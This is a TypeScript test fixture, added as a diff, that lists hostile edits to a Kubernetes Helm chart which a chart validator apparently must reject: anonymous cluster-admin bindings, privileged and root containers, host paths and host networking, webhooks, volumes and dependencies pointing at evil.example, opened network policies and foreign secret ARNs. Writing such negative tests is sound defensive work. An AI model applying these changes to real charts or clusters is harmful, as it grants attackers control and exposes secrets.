@@ -1,0 +1,370 @@
+import type { ChartChange } from "../../support/hostile-chart.ts";
+
+/** A change to the engine's chart that must never reach the cluster, and what has to be said of it. */
+export interface HostileChart {
+  readonly title: string;
+  readonly changes: readonly ChartChange[];
+  readonly says: string;
+}
+
+const object = (apiVersion: string, kind: string, more = "", name = "evil") =>
+  `\n---\napiVersion: ${apiVersion}\nkind: ${kind}\nmetadata:\n  name: ${name}\n  namespace: sparki-engine\n${more}`;
+
+/** Objects that a template adds, by title: what it is, and the rest of its text. */
+const OBJECTS: readonly (readonly [title: string, apiVersion: string, kind: string, more?: string])[] = [
+  [
+    "a cluster role binding",
+    "rbac.authorization.k8s.io/v1",
+    "ClusterRoleBinding",
+    "subjects: [{kind: User, name: 'system:anonymous'}]\nroleRef: {kind: ClusterRole, name: cluster-admin}\n",
+  ],
+  [
+    "a cluster role that adds to admin",
+    "rbac.authorization.k8s.io/v1",
+    "ClusterRole",
+    "rules: [{verbs: ['*'], resources: ['*'], apiGroups: ['*']}]\n",
+  ],
+  ["a role", "rbac.authorization.k8s.io/v1", "Role"],
+  ["a role binding", "rbac.authorization.k8s.io/v1", "RoleBinding"],
+  ["a service account", "v1", "ServiceAccount"],
+  ["a secret", "v1", "Secret", "stringData: {token: x}\n"],
+  ["a secret for a token", "v1", "Secret", "type: kubernetes.io/service-account-token\n"],
+  ["a namespace", "v1", "Namespace"],
+  ["a pod", "v1", "Pod", "spec: {hostPID: true, containers: []}\n"],
+  ["a job", "batch/v1", "Job"],
+  ["a cron job", "batch/v1", "CronJob"],
+  ["a daemon set", "apps/v1", "DaemonSet"],
+  ["a stateful set", "apps/v1", "StatefulSet"],
+  ["a replica set", "apps/v1", "ReplicaSet"],
+  ["a list", "v1", "List", "items: [{apiVersion: v1, kind: Pod}]\n"],
+  [
+    "a mutating webhook",
+    "admissionregistration.k8s.io/v1",
+    "MutatingWebhookConfiguration",
+    "webhooks: [{name: a.b.c, clientConfig: {url: 'https://evil.example'}}]\n",
+  ],
+  ["a validating webhook", "admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration"],
+  ["an ingress", "networking.k8s.io/v1", "Ingress"],
+  ["a gateway", "gateway.networking.k8s.io/v1", "Gateway"],
+  ["an endpoint slice", "discovery.k8s.io/v1", "EndpointSlice"],
+  ["a persistent volume of the host", "v1", "PersistentVolume", "spec: {hostPath: {path: /}}\n"],
+  ["a claim", "v1", "PersistentVolumeClaim"],
+  ["a storage class", "storage.k8s.io/v1", "StorageClass"],
+  ["a definition", "apiextensions.k8s.io/v1", "CustomResourceDefinition"],
+  ["an API service", "apiregistration.k8s.io/v1", "APIService"],
+  ["a config map", "v1", "ConfigMap", "data: {a: b}\n"],
+  ["a load balancer", "v1", "Service", "spec: {type: LoadBalancer, ports: [{port: 80}]}\n"],
+  ["a node port", "v1", "Service", "spec: {type: NodePort, ports: [{port: 80}]}\n"],
+  ["external addresses", "v1", "Service", "spec: {externalIPs: [1.2.3.4], ports: [{port: 80}]}\n"],
+  ["an external name", "v1", "Service", "spec: {type: ExternalName, externalName: evil.example}\n"],
+  [
+    "an open network policy",
+    "networking.k8s.io/v1",
+    "NetworkPolicy",
+    "spec: {podSelector: {}, ingress: [{}], egress: [{}]}\n",
+  ],
+  [
+    "a second deployment",
+    "apps/v1",
+    "Deployment",
+    "spec: {template: {spec: {containers: [{name: a, image: evil}]}}}\n",
+  ],
+  ["a second autoscaler", "autoscaling/v2", "HorizontalPodAutoscaler", "spec: {}\n"],
+  [
+    "a foreign target group",
+    "eks.amazonaws.com/v1",
+    "TargetGroupBinding",
+    "spec: {targetGroupARN: 'arn:aws:elasticloadbalancing:us-east-1:999999999999:targetgroup/x/y'}\n",
+  ],
+  ["a node class", "eks.amazonaws.com/v1", "NodeClass"],
+  [
+    "a foreign secret",
+    "secrets-store.csi.x-k8s.io/v1",
+    "SecretProviderClass",
+    "spec: {provider: aws, parameters: {objects: ''}}\n",
+  ],
+  ["a pod monitor", "monitoring.coreos.com/v1", "PodMonitor"],
+  ["an alert's way out", "monitoring.coreos.com/v1alpha1", "AlertmanagerConfig"],
+  ["a pod disruption budget", "policy/v1", "PodDisruptionBudget", "spec: {maxUnavailable: 100%, selector: {}}\n"],
+  ["a priority class", "scheduling.k8s.io/v1", "PriorityClass", "value: 1000\n"],
+];
+
+export const HOSTILE_OBJECTS: readonly HostileChart[] = OBJECTS.map(([title, apiVersion, kind, more], index) => ({
+  title,
+  changes: [{ file: "templates/service.yaml", append: object(apiVersion, kind, more, `evil-${index}`) }],
+  says: `${kind} evil-${index}`,
+}));
+
+const DEPLOYMENT = "templates/deployment.yaml";
+const edit = (title: string, file: string, from: string, to: string, says: string): HostileChart => ({
+  title,
+  changes: [{ file, replace: [from, to] }],
+  says,
+});
+const inPod = (title: string, line: string, says: string) =>
+  edit(
+    title,
+    DEPLOYMENT,
+    "      enableServiceLinks: false\n",
+    `      enableServiceLinks: false\n      ${line}\n`,
+    says,
+  );
+const inContainer = (title: string, line: string, says: string) =>
+  edit(
+    title,
+    DEPLOYMENT,
+    "          imagePullPolicy: IfNotPresent\n",
+    `          imagePullPolicy: IfNotPresent\n          ${line}\n`,
+    says,
+  );
+const inEnvironment = (name: string) =>
+  edit(
+    `an environment value ${name}`,
+    DEPLOYMENT,
+    "          env:\n",
+    `          env:\n            - {name: ${name}, value: x}\n`,
+    "env",
+  );
+const inVolumes = (title: string, volume: string) =>
+  edit(title, DEPLOYMENT, "      volumes:\n", `      volumes:\n        - ${volume}\n`, "volumes");
+const calls = (title: string, action: string) => ({
+  title,
+  changes: [{ file: "templates/service.yaml", append: `\n${action}\n` }],
+  says: "templates/service.yaml",
+});
+
+/** Templates that are changed in place, or that make something else in the cluster than here. */
+export const HOSTILE_EDITS: readonly HostileChart[] = [
+  inPod("the host's network", "hostNetwork: true", "hostNetwork"),
+  inPod("the host's network in other words", "hostNetwork: yes", "hostNetwork"),
+  inPod("the host's processes", "hostPID: true", "hostPID"),
+  inPod("the host's users", "hostUsers: true", "hostUsers"),
+  inPod("an init container", "initContainers: [{name: a, image: evil}]", "initContainers"),
+  inPod("a sidecar", "initContainers: [{name: a, image: evil, restartPolicy: Always}]", "initContainers"),
+  inPod("an ephemeral container", "ephemeralContainers: [{name: a, image: evil}]", "ephemeralContainers"),
+  inPod("a priority", "priorityClassName: system-node-critical", "priorityClassName"),
+  inPod("a node of one's choice", "nodeName: a", "nodeName"),
+  inPod("tolerations", "tolerations: [{operator: Exists}]", "tolerations"),
+  inPod("host aliases", "hostAliases: [{ip: 1.2.3.4, hostnames: [sparki.tools]}]", "hostAliases"),
+  inPod("another resolver", "dnsConfig: {nameservers: [1.2.3.4]}", "dnsConfig"),
+  inPod("a runtime of one's choice", "runtimeClassName: evil", "runtimeClassName"),
+  edit(
+    "the account's token",
+    DEPLOYMENT,
+    "automountServiceAccountToken: false",
+    "automountServiceAccountToken: true",
+    "automountServiceAccountToken",
+  ),
+  edit(
+    "another account",
+    DEPLOYMENT,
+    "serviceAccountName: engine",
+    "serviceAccountName: database-users",
+    "serviceAccountName",
+  ),
+  edit("root", DEPLOYMENT, "runAsUser: 10001", "runAsUser: 0", "runAsUser"),
+  edit(
+    "no seccomp profile",
+    DEPLOYMENT,
+    "seccompProfile: {type: RuntimeDefault}",
+    "seccompProfile: {type: Unconfined}",
+    "seccompProfile",
+  ),
+  edit(
+    "capabilities",
+    DEPLOYMENT,
+    "capabilities: {drop: [ALL]}",
+    "capabilities: {drop: [ALL], add: [SYS_ADMIN]}",
+    "capabilities",
+  ),
+  edit(
+    "more privileges",
+    DEPLOYMENT,
+    "allowPrivilegeEscalation: false",
+    "allowPrivilegeEscalation: true",
+    "allowPrivilegeEscalation",
+  ),
+  edit("all privileges", DEPLOYMENT, "privileged: false", "privileged: true", "privileged"),
+  edit(
+    "a writable root",
+    DEPLOYMENT,
+    "readOnlyRootFilesystem: true",
+    "readOnlyRootFilesystem: false",
+    "readOnlyRootFilesystem",
+  ),
+  edit(
+    "another image",
+    DEPLOYMENT,
+    "image: {{ .Values.image }}",
+    "image: ghcr.io/alexarno/../evil@sha256:1111111111111111111111111111111111111111111111111111111111111111",
+    "image",
+  ),
+  edit(
+    "another registry",
+    DEPLOYMENT,
+    "image: {{ .Values.image }}",
+    "image: ghcr.io/alexarno/sparki/engine:latest",
+    "image",
+  ),
+  edit("an open port of the node", DEPLOYMENT, "containerPort: 8080", "containerPort: 8080, hostPort: 80", "ports"),
+  edit("a command on leaving", DEPLOYMENT, "sleep: {seconds:", "exec: {command: [sh]}, sleepX: {seconds:", "lifecycle"),
+  edit(
+    "a probe of another host",
+    DEPLOYMENT,
+    "httpGet: {path: /health, port: http}",
+    "httpGet: {host: evil.example, path: /health, port: http}",
+    "httpGet",
+  ),
+  inContainer("a command", "command: [sh, -c, id]", "command"),
+  inContainer("arguments", "args: [evil]", "args"),
+  inContainer("a whole secret as environment", "envFrom: [{secretRef: {name: slack}}]", "envFrom"),
+  inContainer("a device", "volumeDevices: [{name: a, devicePath: /dev/sda}]", "volumeDevices"),
+  inContainer("a terminal", "tty: true", "tty"),
+  ...["DB_PASS", "PGPASS", "AUTH", "PGPASSWORD", "AWS_SECRET_ACCESS_KEY", "LD_PRELOAD", "NODE_OPTIONS"].map(
+    inEnvironment,
+  ),
+  edit(
+    "a secret from elsewhere",
+    DEPLOYMENT,
+    "          env:\n",
+    "          env:\n            - {name: TRACK, valueFrom: {secretKeyRef: {name: a, key: b}}}\n",
+    "env",
+  ),
+  inVolumes("a folder of the host", "{name: a, hostPath: {path: /}}"),
+  inVolumes("an NFS server", "{name: a, nfs: {server: evil.example, path: /}}"),
+  inVolumes("an iSCSI target", "{name: a, iscsi: {targetPortal: evil, iqn: a, lun: 0}}"),
+  inVolumes("another driver", "{name: a, csi: {driver: evil.example}}"),
+  inVolumes("a projected token", "{name: a, projected: {sources: [{serviceAccountToken: {path: t}}]}}"),
+  inVolumes("a secret", "{name: a, secret: {secretName: slack}}"),
+  inVolumes("a claim's volume", "{name: a, persistentVolumeClaim: {claimName: a}}"),
+  inVolumes("an ephemeral volume", "{name: a, ephemeral: {volumeClaimTemplate: {}}}"),
+  inVolumes("a repository", "{name: a, gitRepo: {repository: 'https://evil.example'}}"),
+  inVolumes("an image's volume", "{name: a, image: {reference: evil}}"),
+  edit(
+    "a way to the world",
+    "templates/network-policy.yaml",
+    "  egress:\n",
+    "  egress:\n    - to: [{ipBlock: {cidr: 0.0.0.0/0}}]\n",
+    "egress",
+  ),
+  edit(
+    "two halves of the world",
+    "templates/network-policy.yaml",
+    "  egress:\n",
+    "  egress:\n    - to: [{ipBlock: {cidr: 0.0.0.0/1}}, {ipBlock: {cidr: 128.0.0.0/1}}]\n",
+    "egress",
+  ),
+  edit("everybody in", "templates/network-policy.yaml", "  ingress:\n", "  ingress:\n    - {}\n", "ingress"),
+  edit(
+    "every pod selected",
+    "templates/network-policy.yaml",
+    "policyTypes: [Ingress, Egress]",
+    "policyTypes: [Egress]",
+    "policyTypes",
+  ),
+  edit(
+    "another namespace",
+    "templates/service.yaml",
+    "namespace: {{ .Release.Namespace }}",
+    "namespace: kube-system",
+    "namespace",
+  ),
+  edit("a public service", "templates/service.yaml", "type: ClusterIP", "type: LoadBalancer", "type"),
+  edit(
+    "a public service by annotation",
+    "templates/service.yaml",
+    "metadata:\n",
+    "metadata:\n  annotations: {service.beta.kubernetes.io/aws-load-balancer-scheme: internet-facing}\n",
+    "annotations",
+  ),
+  edit(
+    "a hook",
+    "templates/service.yaml",
+    "metadata:\n",
+    "metadata:\n  annotations: {helm.sh/hook: post-install}\n",
+    "annotations",
+  ),
+  edit(
+    "what Helm keeps",
+    "templates/service.yaml",
+    "metadata:\n",
+    "metadata:\n  annotations: {helm.sh/resource-policy: keep}\n",
+    "annotations",
+  ),
+  edit(
+    "an owner",
+    "templates/service.yaml",
+    "metadata:\n",
+    "metadata:\n  ownerReferences: [{apiVersion: v1, kind: Pod, name: a, uid: b}]\n",
+    "ownerReferences",
+  ),
+  edit(
+    "a secret of another stack",
+    "templates/secrets.yaml",
+    "objectName: {{ .Values.cache.secretArn | quote }}",
+    "objectName: 'arn:aws:secretsmanager:us-east-1:111122223333:secret:other'",
+    "objects",
+  ),
+  edit(
+    "another target group",
+    "templates/target-group-binding.yaml",
+    "targetGroupARN: {{ .Values.targetGroupArn }}",
+    "targetGroupARN: arn:aws:elasticloadbalancing:us-east-1:999999999999:targetgroup/a/b",
+    "targetGroupARN",
+  ),
+  edit(
+    "a key twice",
+    "templates/service.yaml",
+    "  type: ClusterIP\n",
+    "  type: ClusterIP\n  type: ClusterIP\n",
+    "YAML",
+  ),
+  calls("what is in the cluster", '{{- if lookup "v1" "Namespace" "" "kube-system" }}\n---\nkind: Evil\n{{- end }}'),
+  calls("whether it is an upgrade", "{{- if .Release.IsUpgrade }}\n---\nkind: Evil\n{{- end }}"),
+  calls(
+    "whether it is an upgrade, by a variable",
+    "{{- $r := . }}{{- if $r.Release.IsUpgrade }}\n---\nkind: Evil\n{{- end }}",
+  ),
+  calls(
+    "whether it is an upgrade, by a scope",
+    "{{- with .Release }}{{ if .IsUpgrade }}\n---\nkind: Evil\n{{ end }}{{- end }}",
+  ),
+  calls("which revision it is", "{{- if gt .Release.Revision 1 }}\n---\nkind: Evil\n{{- end }}"),
+  calls("what the cluster can", '{{- if .Capabilities.APIVersions.Has "v2" }}\n---\nkind: Evil\n{{- end }}'),
+  calls("what the time is", '{{- if eq (now | toString) "" }}{{- end }}'),
+  calls("a template in a value", "{{ tpl .Values.track . }}"),
+  calls("a file", '{{ .Files.Get "values.yaml" }}'),
+  calls("an address of the network", '{{ getHostByName "evil.example" }}'),
+  calls("a random text", "{{ randAlphaNum 5 }}"),
+  calls("an environment variable", '{{ env "HOME" }}'),
+  {
+    title: "a chart in the chart",
+    changes: [{ file: "charts/evil/Chart.yaml", append: "name: evil\n" }],
+    says: "file charts/evil",
+  },
+  {
+    title: "a dependency",
+    changes: [
+      { file: "Chart.yaml", append: "dependencies: [{name: a, version: 1.0.0, repository: 'https://evil.example'}]\n" },
+    ],
+    says: "dependencies",
+  },
+  {
+    title: "a definition that nobody read",
+    changes: [{ file: "crds/evil.yaml", append: "kind: CustomResourceDefinition\n" }],
+    says: "crds/evil.yaml",
+  },
+  { title: "notes", changes: [{ file: "templates/NOTES.txt", append: "evil" }], says: "file templates/NOTES.txt" },
+  {
+    title: "a test hook's folder",
+    changes: [{ file: "templates/tests/evil.yaml", append: "kind: Pod\n" }],
+    says: "file templates/tests",
+  },
+  {
+    title: "a template that is broken",
+    changes: [{ file: "templates/service.yaml", append: "{{ end }}" }],
+    says: "rendered",
+  },
+];
+
+export const HOSTILE_CHARTS = [...HOSTILE_OBJECTS, ...HOSTILE_EDITS];
